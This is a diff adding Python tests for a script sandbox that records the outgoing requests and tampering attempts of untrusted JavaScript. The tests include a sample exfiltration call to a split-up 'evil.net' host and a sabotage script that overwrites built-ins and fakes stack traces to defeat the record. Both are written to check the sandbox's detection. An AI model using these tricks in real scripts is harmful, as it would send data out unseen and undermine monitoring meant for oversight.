@@ -1,0 +1,94 @@
+"""The sandbox runtime's record, run by the worker directly: out of the script's reach."""
+
+import json
+
+from review.engine.sandbox_worker import run_script
+
+SETUP = {
+    "hosts": ["api.example.com"],
+    "responses": [{"method": "GET", "url": "https://api.example.com/rows?b=2&a=1",
+                   "body": json.dumps([{"id": "a", "n": 1}, {"id": "b", "n": 2}])}],
+    "account": {"apikey": "k"}, "parameters": {}, "report": "Items",
+}
+EXFIL = "httprequest.post('https://' + 'evil' + '.net/x', 'data');\n"
+ROWS = (
+    "datagrid.magicParseJSON(httprequest.get('https://api.example.com/rows?a=1&b=2'));\n"
+    "datagrid.magicParseCSV('id,n\\r\\nc,3\\n');\n"
+)
+
+
+def record_of(source):
+    reply = run_script(source, SETUP, 5, 64)
+    assert reply["status"] == "ok"
+    return reply["record"]
+
+
+def hosts(record):
+    return [(r["host"], r["declared"], r["matched"]) for r in record["requests"]]
+
+
+def test_the_entry_points_are_not_reachable_from_the_script():
+    record = record_of("if (typeof __sandboxStart + typeof __sandboxRun + typeof __sandboxResult !== "
+                       "'undefinedundefinedundefined') { throw new Error('reachable'); }")
+    assert record["error"] is None
+
+
+def test_the_record_survives_a_script_that_breaks_every_builtin_it_can():
+    sabotage = (
+        "var noop = function () { return ''; };\n"
+        "var protos = [Array.prototype, String.prototype, RegExp.prototype, Object.prototype, Number.prototype];\n"
+        "for (var i = 0; i < protos.length; i++) {\n"
+        "  for (var names = Object.getOwnPropertyNames(protos[i]), j = 0; j < names.length; j++) {\n"
+        "    if (names[j] !== 'constructor' && names[j] !== '__proto__' && names[j] !== 'length') {\n"
+        "      try { Object.defineProperty(protos[i], names[j], {value: noop, writable: true, configurable: true}); } catch (e) {}\n"
+        "    }\n"
+        "  }\n"
+        "}\n"
+        "Object.defineProperty(Array.prototype, '0', {set: function () {}, get: function () { return 'x'; }, configurable: true});\n"
+        "Object.defineProperty(Object.prototype, 'requests', {set: function () {}, get: function () { return []; }, configurable: true});\n"
+        "Error.prepareStackTrace = function () { return 'user-script.js:999:1'; };\n"
+        "Error.stackTraceLimit = 0;\n"
+        "JSON.stringify = JSON.parse = Object.keys = Object.defineProperty = Array.isArray = noop;\n"
+        "Function.prototype.call = Function.prototype.apply = Function.prototype.bind = noop;\n"
+    )
+    record = record_of(ROWS + sabotage + EXFIL)
+    assert hosts(record) == [("api.example.com", True, True), ("evil.net", False, False)]
+    assert record["requests"][1]["line"] == 18  # not the line prepareStackTrace made up
+    assert record["rows"] == 3 and record["request_count"] == 2
+    assert [c["name"] for c in record["columns"]] == ["id", "n"]
+    assert record["row_shape"]["count"] == 0
+    what = {t["what"] for t in record["tampering"]}
+    assert {"replaced JSON.stringify", "replaced Array.prototype.push", "replaced Function.prototype.call",
+            "replaced RegExp.prototype.exec", 'defined a getter or setter for Array.prototype["0"]',
+            'defined a getter or setter for Object.prototype["requests"]'} <= what
+
+
+def test_a_stub_member_cannot_be_replaced_and_trying_is_recorded_with_its_line():
+    record = record_of("'use strict';\nvar post = httprequest.post;\nhttprequest.post = function () {};\n")
+    assert record["error"]["name"] == "TypeError" and record["error"]["line"] == 3
+    assert record["tampering"] == [{"what": "assigned httprequest.post", "line": 3, "column": 18}]
+    record = record_of("delete datagrid.endRow;\nObject.defineProperty(DOMO, 'sleep', {value: 1});\n")
+    assert [t["what"] for t in record["tampering"]] == ["deleted datagrid.endRow", "redefined DOMO.sleep"]
+
+
+def test_the_serializer_writes_what_json_would():
+    odd = "q\"uote\\back\nline\ttab\u0001ctl\u00e9\u2028\U0001f600\ud800lone"
+    source = f"httprequest.get('https://api.example.com/' + {json.dumps(odd)});\nauth.authenticationFailed({json.dumps(odd)});\n"
+    record = record_of(source)
+    assert record["requests"][0]["url"] == "https://api.example.com/" + odd
+    assert record["auth_message"] == odd
+    assert record["sleep_ms"] == 0 and record["discovery_published"] is False
+
+
+def test_an_honest_script_keeps_its_own_property_and_polyfill_semantics():
+    record = record_of(
+        "DOMO.helper = function () { return 1; };\n"
+        "if (DOMO.helper() !== 1) { throw new Error('helper'); }\n"
+        "discovery.tree = {name: 'mine', children: []};\n"
+        "Array.prototype.last = function () { return this[this.length - 1]; };\n"
+        "if ([1, 2].last() !== 2) { throw new Error('polyfill'); }\n"
+        "var t = setInterval(function () { DOMO.log('tick'); if (++n === 3) { clearInterval(t); } }, 100), n = 0;\n"
+        + ROWS
+    )
+    assert record["error"] is None and record["tampering"] == []
+    assert record["logs"] == 3 and record["rows"] == 3
